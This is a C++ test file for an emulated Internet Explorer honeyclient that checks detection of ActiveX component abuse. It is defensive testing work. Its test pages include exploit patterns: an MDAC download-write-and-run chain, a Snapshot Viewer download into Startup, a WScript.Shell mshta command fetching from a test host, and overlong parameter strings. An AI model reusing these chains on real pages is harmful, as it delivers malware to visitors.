// Components in pages: for every misuse of the table a page that shows its trait and one that uses the same
// member innocently, both made from the row. Nothing here attacks anything: arguments are one letter many
// times, commands name a specimen that is nowhere, and what hears them are stand-ins.
#include <gmock/gmock.h>

#include "honeyclient/components/table.h"
#include "honeyclient/low/visit_test.h"
#include "triage/documents/builders.h"

namespace shikake::honeyclient::low {
namespace {

using components::Behaviour;
using components::Component;
using components::Misuse;
using components::Trait;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;

// Of the personas with Internet Explorer, those that have it and those that lack it.
const std::vector<Persona>& browsers() {
  static const std::vector<Persona> all = [] {
    std::vector<Persona> found;
    for (const std::string& name : persona_names())
      if (Persona persona = *find_persona(name); persona.engine == Engine::trident)
        found.push_back(std::move(persona));
    return found;
  }();
  return all;
}
const Persona* persona_with(const Component& row, bool installed) {
  for (const Persona& persona : browsers())
    if (components::installed(row, "", persona.version, persona.components) == installed) return &persona;
  return nullptr;
}

std::string in_quotes(std::string_view text) {
  std::string made = "'";
  for (char c : text) made += c == '\\' ? std::string("\\\\") : std::string(1, c);
  return made + "'";
}

// An object named o, the way that pages get one.
std::string making(const Component& row) {
  if (!row.class_ids.empty())
    return "<object id=o classid='clsid:" + row.class_ids[0] + "'></object><script>";
  return "<script>var o = new ActiveXObject(" + in_quotes(row.program_ids[0]) + ");";
}

std::string value_for(const Misuse& misuse, bool innocent) {
  switch (misuse.trait) {
    case Trait::overlong:
      return innocent ? std::string("'A'")
                      : in_quotes(misuse.texts.empty() ? "" : misuse.texts[0]) + " + Array(" +
                            std::to_string(misuse.length + 2) + ").join('A')";
    case Trait::number:
      if (innocent) return misuse.at_least ? "1" : std::to_string(static_cast<int64_t>(*misuse.below));
      return std::to_string(static_cast<int64_t>(misuse.at_least ? *misuse.at_least : *misuse.below - 1));
    case Trait::path:
      return innocent ? std::string("'specimen.txt'") : in_quotes("C:\\specimen.txt");
    case Trait::address:
      return innocent ? "'specimen.htm'" : "'http://specimen.example/x'";
    case Trait::contains:
      return innocent ? std::string("'specimen'") : in_quotes(misuse.texts[0]);
    case Trait::command:
      return innocent ? "''" : "'specimen.exe /quiet'";
    case Trait::width:
      return innocent ? "'%8.2f'" : "'%" + std::to_string(misuse.length + 1) + "f'";
    case Trait::file:
    case Trait::called:
      return "''";
  }
  return "''";
}

// Of an address that another program opens: "ms-msdt:".
bool is_protocol(const Component& row) {
  return !row.program_ids.empty() && row.program_ids[0].ends_with(':');
}
std::string going_to(const Component& row, const Misuse& misuse, bool innocent) {
  return "<script>location = " + in_quotes(row.program_ids[0] + "/specimen") + " + " + value_for(misuse, innocent) +
         "</script>";
}

// The statements that use `member`: a call or an assignment, as the row has it.
std::string use(const Component& row, const Misuse& misuse, const std::string& member, bool innocent) {
  if (misuse.trait == Trait::file)
    return innocent ? "o.Open(); o.WriteText('specimen'); o.Close();"
                    : "o.Open(); o.Charset = 'utf-8'; o.WriteText('specimen'); " +
                          ("o." + member + "(" + in_quotes("C:\\specimen.txt") + ");");
  const std::string before = row.behaviour == Behaviour::xml_http ? "o.open('GET', '/', true); " : "";
  if (misuse.trait == Trait::called && innocent) return "var unused = o.Specimen;";
  const bool property = std::ranges::any_of(
      row.properties, [&](const std::string& one) { return components::same_name(one, member); });
  const std::string value = value_for(misuse, innocent);
  // Of a document, the name is put together: what convicts is the use, not the word in the file.
  const std::string dotted = row.in_documents
                                 ? "o['" + member.substr(0, 2) + "' + '" + member.substr(2) + "']"
                                 : "o[" + in_quotes(member) + "]";
  if (property) return dotted + " = " + value + ";";
  std::string arguments;
  for (uint32_t i = 0; i < misuse.argument.value_or(0); ++i) arguments += "'a', ";
  return before + dotted + "(" + arguments + value + ");";
}

intel::VisitRecord visit_page(const std::string& page, const std::string& persona) {
  VisitOptions options = local_visit("http://page.example/");
  options.offline = true;
  options.persona = persona;
  options.content = page;
  return visit_or_fail(options);
}

// The same in a document: objects of its scripts have names there.
intel::VisitRecord visit_document(const Component& row, const std::string& script) {
  const std::string& name = row.program_ids[0];
  const std::string object = name == "Acrobat.Doc" ? "this" : name.substr(name.find('.') + 1);
  const std::string source =
      "var o = " + object + "; try {" + script + "} catch (e) { app.alert('thrown: ' + e); }";
  VisitOptions options = local_visit("http://page.example/a.pdf");
  options.offline = true;
  options.content_type = "application/pdf";
  options.content = triage::builders::pdf(
      {"<< /Type /Catalog /OpenAction << /S /JavaScript /JS <" + triage::builders::hex(source) + "> >> >>"});
  return visit_or_fail(options);
}

class EveryRow : public ::testing::TestWithParam<size_t> {};

TEST_P(EveryRow, MisuseConvictsAndInnocentUseDoesNot) {
  const Component& row = components::table()[GetParam()];
  SCOPED_TRACE(row.name + " (" + row.file + ":" + std::to_string(row.line) + ")");
  const Persona* visitor = row.in_documents ? &browsers().front() : persona_with(row, true);
  const Persona* without = persona_with(row, false);
  if (!visitor) {  // there is nobody to attack: it is asked for to find out who looks on
    EXPECT_THAT(row.misuses, IsEmpty());
    return;
  }
  for (const Misuse& misuse : row.misuses)
    for (const std::string& member : misuse.members) {
      SCOPED_TRACE(member);
      auto visit_it = [&](bool innocent, const Persona& persona) {
        if (row.in_documents) return visit_document(row, use(row, misuse, member, innocent));
        if (is_protocol(row)) return visit_page(going_to(row, misuse, innocent), persona.name);
        return visit_page(making(row) + "try {" + use(row, misuse, member, innocent) +
                              "} catch (e) { alert('thrown: ' + e); }</script>",
                          persona.name);
      };
      intel::VisitRecord innocent = visit_it(true, *visitor);
      EXPECT_EQ(intel::name(innocent.verdict), "benign") << use(row, misuse, member, true);
      EXPECT_THAT(events_of(innocent, "dialog"), IsEmpty()) << use(row, misuse, member, true);
      EXPECT_TRUE(row.in_documents || !innocent.components.empty());

      intel::VisitRecord attacked = visit_it(false, *visitor);
      if (misuse.source.empty()) {
        // Emulated, and convicts nobody by itself; a command is noted all the same.
        EXPECT_NE(intel::name(attacked.verdict), "malicious") << use(row, misuse, member, false);
        continue;
      }
      EXPECT_EQ(intel::name(attacked.verdict), "malicious") << use(row, misuse, member, false);
      ASSERT_FALSE(attacked.reasons.empty());
      EXPECT_THAT(attacked.reasons[0], HasSubstr(misuse.source));
      EXPECT_EQ(attacked.nodes[0].role, intel::Role::exploit);
      for (const std::string& cve : misuse.cves) EXPECT_THAT(attacked.nodes[0].cves, Contains(cve));

      if (!without || row.in_documents || row.behaviour == Behaviour::xml_http) continue;
      intel::VisitRecord elsewhere = visit_it(false, *without);
      EXPECT_NE(intel::name(elsewhere.verdict), "malicious") << without->name << " lacks it";
    }
}

INSTANTIATE_TEST_SUITE_P(Table, EveryRow, ::testing::Range(size_t{0}, components::table().size()),
                         [](const auto& row) {
                           std::string name;
                           for (char c : components::table()[row.param].name)
                             if (std::isalnum(static_cast<unsigned char>(c))) name += c;
                           return name;
                         });

TEST(Components, ArePersonasToo) {
  for (const Persona& persona : browsers())
    for (const std::string& listed : persona.components)
      EXPECT_NE(components::find(listed), nullptr) << persona.name << " lists " << listed;
  // What a persona shows in navigator.plugins has the version that the component tells.
  for (const std::string& name : persona_names()) {
    const Persona persona = *find_persona(name);
    if (persona.engine != Engine::trident) continue;
    for (const PersonaPlugin& plugin : persona.plugins)
      for (const PersonaField& type : plugin.types)
        if (const Component* row = components::find_by_type(type.name); row && !row->versions.empty()) {
          EXPECT_EQ(components::version(*row, persona.version), plugin.version) << name << " " << plugin.name;
        }
  }
}

struct Page {
  const char* name;
  std::string script;
  std::vector<std::string> dialogs = {};
  const char* persona = "ie8-winxp";
  const char* verdict = "benign";
};

class ComponentPages : public ::testing::TestWithParam<Page> {};

TEST_P(ComponentPages, Does) {
  const Page& row = GetParam();
  intel::VisitRecord visit = visit_page("<script>" + row.script + "</script>", row.persona);
  EXPECT_EQ(events_of(visit, "dialog"), row.dialogs);
  EXPECT_EQ(intel::name(visit.verdict), row.verdict);
  for (const std::string& error : events_of(visit, "error")) ADD_FAILURE() << error;
}

INSTANTIATE_TEST_SUITE_P(
    Rows, ComponentPages,
    ::testing::Values(
        Page{"unknown_absorbs",
             "var o = new ActiveXObject('No.Such'); o.a.b.c(1).d = 2; o.x = 5; alert(o.x + typeof o.q.r());",
             {"alert: 5function"}},
        Page{"stand_ins_own_objects_take_any_length",
             "var many = new Array(3000).join('a'), d = new ActiveXObject('Msxml2.DOMDocument');"
             "var e = d.createElement('b'); e.text = many;"
             "var t = new ActiveXObject('Scripting.FileSystemObject').CreateTextFile('a.txt'); t.Write(many);"
             "alert(e.text.length)",
             {"alert: 2999"}},
        Page{"absent_can_not_be_made",
             "try { new ActiveXObject('snpvw.Snapshot Viewer Control.1'); } catch (e) { alert(e.message); }",
             {"alert: Automation server can't create object"},
             "ie10-win7"},
        Page{"versions",
             "alert(new ActiveXObject('ShockwaveFlash.ShockwaveFlash').GetVariable('$version'));"
             "try { new ActiveXObject('ShockwaveFlash.ShockwaveFlash.10'); alert('10'); } catch (e) {}"
             "try { new ActiveXObject('ShockwaveFlash.ShockwaveFlash.11'); alert('11'); } catch (e) {}",
             {"alert: WIN 10,0,32,18", "alert: 10"}},
        Page{"stream",
             "var s = new ActiveXObject('ADODB.Stream'); s.open(); s.Type = 2; s.CHARSET = 'utf-8';"
             "s.writeText('a\\u00e9'); s.Position = 0; alert(s.ReadText() + s.size);",
             {"alert: a\u00e93"}},
        Page{"files",
             "var f = new ActiveXObject('Scripting.FileSystemObject');"
             "var p = f.BuildPath(f.GetSpecialFolder(2), 'a.txt'); var t = f.CreateTextFile(p, true);"
             "t.WriteLine('one'); t.Write('two'); t.close();"
             "t = f.OpenTextFile(p, 1); alert(t.ReadLine() + ':' + t.ReadAll() + f.FileExists(p) + "
             "f.fileexists(p + 'x') + f.GetExtensionName(p));",
             {"alert: one:twotruefalsetxt"}},
        Page{"shell",
             "var w = new ActiveXObject('WScript.Shell'); "
             "alert(w.ExpandEnvironmentStrings('%WINDIR%\\\\x%NO%'));"
             "alert(w.SpecialFolders('Startup').indexOf('Startup') > 0);"
             "w.RegWrite('HKCU\\\\S', 'v'); alert(w.regread('hkcu\\\\s'));",
             {"alert: C:\\WINDOWS\\x%NO%", "alert: true", "alert: v"}},
        Page{"dictionary",
             "var d = new ActiveXObject('Scripting.Dictionary'); d.Add('k', 1); d.add('Q', 2);"
             "alert(d.Exists('k') + ':' + d.Count + d.Item('Q') + d.Keys().join());",
             {"alert: true:22k,Q"}},
        Page{"base64",
             "var x = new ActiveXObject('Microsoft.XMLDOM'); var e = x.createElement('b');"
             "e.dataType = 'bin.base64'; e.text = 'U2hp a2FrZQ=='; var s = new ActiveXObject('ADODB.Stream');"
             "s.Type = 1; s.Open(); s.Write(e.nodeTypedValue); s.Position = 0; s.Type = 2; s.Charset = "
             "'us-ascii'; alert(s.ReadText());",
             {"alert: Shikake"}},
        Page{"code_page",
             "var s = new ActiveXObject('ADODB.Stream'); s.Type = 2; s.Charset = '437'; s.Open();"
             "s.WriteText('\\u2592\\u00e4'); alert(s.Size);",
             {"alert: 2"}},
        Page{"a_command_is_suspicious",
             "new ActiveXObject('Shell.Application').ShellExecute('specimen.exe', '/q', '', 'open', 0);",
             {},
             "ie8-winxp",
             "suspicious"}),
    [](const auto& row) { return row.param.name; });

// The whole of MDAC's trick: what is fetched is written and run, and who served it is named.
TEST(Components, ADroppedProgramNamesWhoServedIt) {
  Sites sites({{"/",
                "<object id=d classid='clsid:BD96C556-65A3-11D0-983A-00C04FC29E36'></object><script>"
                "var x = d.CreateObject('Microsoft.XMLHTTP', ''); x.Open('GET', '{b}/p', false); x.Send();"
                "var s = d.CreateObject('ADODB.Stream', ''); s.Type = 1; s.Open(); s.Write(x.ResponseBody);"
                "s.SaveToFile('C:\\\\specimen.exe', 2);"
                "d.CreateObject('Shell.Application', '').ShellExecute('C:\\\\specimen.exe');</script>"},
               {"/p", "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n\r\n" + specimen_program()}});
  VisitOptions options = local_visit(sites.url());
  options.persona = "ie6-winxp";
  KeptBlobs blobs;
  intel::VisitRecord visit = visit_or_fail(options, blobs);
  EXPECT_EQ(intel::name(visit.verdict), "malicious");
  EXPECT_THAT(visit.nodes[0].cves, Contains("CVE-2006-0003"));
  EXPECT_THAT(events_of(visit, "file"),
              Contains(HasSubstr("ADODB.Stream wrote C:\\specimen.exe: a Windows program of 256 bytes")));
  ASSERT_EQ(visit.nodes.size(), 2u);
  EXPECT_EQ(visit.nodes[0].role, intel::Role::exploit);
  EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
  EXPECT_EQ(blobs.kept.count(visit.nodes[1].sha256->hex()), 1u);
  EXPECT_THAT(visit.reasons, Contains(HasSubstr("and had it run")));
}

TEST(Components, WhatACommandOrAComponentNamesIsFollowed) {
  Sites sites({{"/",
                "<object id=o classid='clsid:F0E42D50-368C-11D0-AD81-00A0C90DC8D9'></object><script>"
                "o.SnapshotPath = '{b}/p'; o.CompressedPath = 'C:/Startup/specimen.exe'; o.PrintSnapshot();"
                "new ActiveXObject('WScript.Shell').Run('mshta {b}/next.hta');</script>"},
               {"/p", "HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n\r\n" + specimen_program()},
               {"/next.hta", "HTTP/1.1 200 OK\r\nContent-Type: application/hta\r\n\r\n<script></script>"}});
  VisitOptions options = local_visit(sites.url());
  options.persona = "ie8-winxp";
  intel::VisitRecord visit = visit_or_fail(options);
  EXPECT_EQ(edge_texts(sites, visit).size(), 2u);
  for (const intel::VisitEdge& edge : visit.edges) EXPECT_EQ(intel::name(edge.mechanism), "component");
  ASSERT_EQ(visit.nodes.size(), 3u);
  for (const intel::VisitNode& node : visit.nodes) EXPECT_TRUE(node.fetched) << node.url;
  EXPECT_THAT(events_of(visit, "download"), Contains(visit.nodes[1].url));
  EXPECT_THAT(events_of(visit, "command"), Contains(HasSubstr("mshta")));
  EXPECT_THAT(visit.nodes[0].cves, Contains("CVE-2008-2463"));
  EXPECT_EQ(visit.nodes[1].role, intel::Role::distribution);
}

TEST(Components, ParametersAndAttributesAreUsesToo) {
  const std::string many(2000, 'A');
  const struct {
    const char* name;
    std::string page;
    const char* persona;
    std::string_view verdict;
  } rows[] = {
      {"param",
       "<object classid='clsid:48DD0448-9209-4F81-9F6D-D83562940134'><param name=action value='" + many +
           "'></object>",
       "ie7-winxp", "malicious"},
      {"embed", "<embed type=video/quicktime qtsrc='rtsp://x.example/" + many + "'>", "ie8-winxp",
       "malicious"},
      {"embed_of_another_scheme", "<embed type=video/quicktime qtsrc='http://x.example/" + many + "'>",
       "ie8-winxp", "benign"},
      {"nobody_there", "<embed type=video/quicktime qtsrc='rtsp://x.example/" + many + "'>", "chrome-win10",
       "benign"},
      {"unknown_class",
       "<object classid='clsid:00000000-0000-0000-0000-000000000009'><param name=data value='" + many +
           "'></object>",
       "ie8-winxp", "benign"},
      {"no_class_elsewhere",
       "<object id=o classid='clsid:48DD0448-9209-4F81-9F6D-D83562940134'></object><script>o.Action = '" +
           many + "'</script>",
       "firefox-win7", "benign"},
  };
  for (const auto& row : rows)
    EXPECT_EQ(intel::name(visit_page(row.page, row.persona).verdict), row.verdict) << row.name;
}

// Unknown objects are named among what was not emulated, and matter once something is done to them.
TEST(Components, UnknownOnesAreReported) {
  intel::VisitRecord made = visit_page("<script>new ActiveXObject('No.Such')</script>", "ie8-winxp");
  EXPECT_THAT(made.unemulated, Contains("component No.Such"));
  EXPECT_TRUE(made.complete);
  intel::VisitRecord used = visit_page("<script>new ActiveXObject('No.Such').Go(1)</script>", "ie8-winxp");
  EXPECT_FALSE(used.complete);
}

}  // namespace
}  // namespace shikake::honeyclient::low
